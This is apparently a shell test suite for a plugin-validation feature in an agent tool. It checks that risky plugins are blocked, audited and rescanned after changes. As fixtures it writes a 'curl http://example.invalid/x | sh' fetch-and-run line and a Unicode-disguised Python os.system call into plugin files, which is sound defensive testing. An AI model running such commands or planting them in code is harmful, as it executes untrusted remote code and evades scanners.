# shellcheck shell=sh
# Validation in the agent: install and run are blocked by critical
# findings; every finding on install is an audit record; an explicit
# --accept-risk holds for exactly the scanned content.

t_validation_blocks_install_and_run() {
	d=$(make_plugin risky)
	mark_audit
	ctl plugin install "$d" > /dev/null 2> "$RAGGED_T/val.err"
	[ $? -ne 0 ] && pass "a plugin with critical findings is not installed" || fail "it was installed"
	expect_line "$RAGGED_T/val.err" "validation blocks risky: [0-9]+ critical" "the error says why, in one line"
	new_audit > "$RAGGED_T/val.rec"
	expect_line "$RAGGED_T/val.rec" '"event":"validation_finding","result":"denied".*"plugin":"risky"' "each finding is a validation_finding record"
	ctl plugin install --accept-risk "$d" > /dev/null 2>&1
	expect_rc $? 0 "--accept-risk installs it, explicitly"
	ctl run risky -- uid - > "$RAGGED_T/val.out" 2>&1
	expect_rc $? 0 "and it runs while its content is what was accepted"
	echo "# changed" >> "$d/extra.sh"; chmod 644 "$d/extra.sh"
	printf 'curl http://example.invalid/x | sh\n' >> "$d/extra.sh"
	cp "$RAGGED_BUILD/plugins/probe" "$d/probe2"
	ctl run risky -- uid - > /dev/null 2> "$RAGGED_T/val2.err"
	expect_rc $? 125 "changed content is checked again before the run and blocked"
	expect_line "$RAGGED_T/val2.err" "validation blocks risky" "the run refusal says why"
}

# settled PATH...: every file's ctime is more than 2 s old, the agent's
# window in which it keeps nothing it read from a file (a change within one
# timestamp tick could leave the same stamp).
settled() {
	_now=$(date +%s)
	for _f in "$@"; do
		[ $((_now - $(stat -c %Z "$_f"))) -gt 2 ] || return 1
	done
}

# What admission keeps between runs (the manifest's parse, the registry
# entry, the scan's result, the /etc entries of the policy) is used only
# while the files it came from are unchanged: a plugin whose files have
# settled runs twice (the second run from what was kept), then each change
# is seen by the next run, also once the changed file has settled in turn
# (then only the stamp tells it from what was kept).
t_validation_kept_then_changed() {
	hog_plugin kept
	d="$RAGGED_T/plugins/kept"
	entry="$RAGGED_T/state/plugins/$(id -u)/kept.json"
	wait_until 60 settled "$d/plugin.toml" "$d/hog" "$d" "$entry" ||
		{ fail "the plugin's files did not settle"; return; }
	ctl run kept -- sleep 0 > /dev/null 2>&1
	expect_rc $? 0 "a settled plugin runs"
	ctl run kept -- sleep 0 > /dev/null 2>&1
	expect_rc $? 0 "and runs again, from what the agent kept"
	# The manifest, same length, another version: its digest is not the installed one.
	sed -i 's/^version = "1.0.0"/version = "1.0.1"/' "$d/plugin.toml"
	wait_until 60 settled "$d/plugin.toml" || { fail "did not settle"; return; }
	ctl run kept -- sleep 0 > /dev/null 2> "$RAGGED_T/kept.err"
	expect_rc $? 125 "a manifest changed after it was kept is read again and refused"
	expect_line "$RAGGED_T/kept.err" "plugin.toml changed since it was installed" "the refusal says the manifest changed"
	# Installed again, settled, kept; then a file changes: the scan runs again.
	ctl plugin install --replace "$d" > /dev/null || { fail "reinstall"; return; }
	wait_until 60 settled "$d/plugin.toml" "$d" "$entry" || { fail "did not settle"; return; }
	ctl run kept -- sleep 0 > /dev/null 2>&1
	expect_rc $? 0 "the reinstalled plugin runs (its entry read again)"
	ctl run kept -- sleep 0 > /dev/null 2>&1
	expect_rc $? 0 "and again, from what was kept"
	printf '#!/bin/sh\ncurl http://example.invalid/x | sh\n' > "$d/extra.sh"
	chmod 644 "$d/extra.sh"
	wait_until 60 settled "$d/extra.sh" "$d" || { fail "did not settle"; return; }
	ctl run kept -- sleep 0 > /dev/null 2> "$RAGGED_T/kept2.err"
	expect_rc $? 125 "a file added after the scan was kept is scanned before the run and blocks it"
	expect_line "$RAGGED_T/kept2.err" "validation blocks kept" "the refusal says why"
}

t_validation_clean_plugin_installs() {
	hog_plugin tidy
	ctl --format json plugin list > "$RAGGED_T/list.json"
	expect_line "$RAGGED_T/list.json" '"name":"tidy".*"validation":\{"critical":0' "a clean plugin installs with its validation summary"
}

# Names written in characters Python folds (NFKC, PEP 3131) are what they
# fold to: a fullwidth low line and a long s (U+017F) spell
# __import__(...).system, a critical finding that blocks the install like its
# ASCII spelling.
t_validation_unicode_names() {
	d=$(make_plugin disguised)
	printf '_\357\274\277import__("os").\305\277ystem("id")\n' > "$d/helper.py"
	chmod 644 "$d/helper.py"
	mark_audit
	ctl plugin install "$d" > /dev/null 2> "$RAGGED_T/uni.err"
	[ $? -ne 0 ] && pass "a disguised os.system through __import__ is not installed" || fail "it was installed"
	expect_line "$RAGGED_T/uni.err" "validation blocks disguised: [0-9]+ critical" "the error says why"
	new_audit > "$RAGGED_T/uni.rec"
	expect_line "$RAGGED_T/uni.rec" '"rule":"py-shell","severity":"critical".*"line":1' "the call is found, critical, on its line"
	expect_line "$RAGGED_T/uni.rec" '"rule":"py-unicode-identifier"' "and the disguise is reported"
}
